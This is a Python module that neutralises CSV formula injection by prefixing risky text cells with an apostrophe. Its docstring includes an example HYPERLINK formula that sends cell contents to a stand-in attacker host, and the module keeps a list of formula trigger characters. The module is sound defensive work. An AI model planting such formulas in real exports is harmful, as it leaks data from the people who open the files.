"""CSV cells that a spreadsheet will not run as formulas (CSV / formula injection).

Names, cohorts and other texts come from rosters and from people themselves. A cell that starts with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheets skip before one of
those) is read as a formula by Excel, LibreOffice and Google Sheets when the CSV is opened: a name like
``=HYPERLINK("https://evil.example/?"&A1,"open")`` would leak the sheet or run a command. Every CSV the
product writes goes through :func:`safe_cell`, which prefixes such a text with ``'`` (OWASP's advice:
shown as the plain text, and obvious to a reader). Numbers are written as they are, so a negative count
stays a number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every text cell is neutralised by :func:`safe_cell`."""

    def __init__(self, f: IO[str]) -> None:
        self._writer = csv.writer(f)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
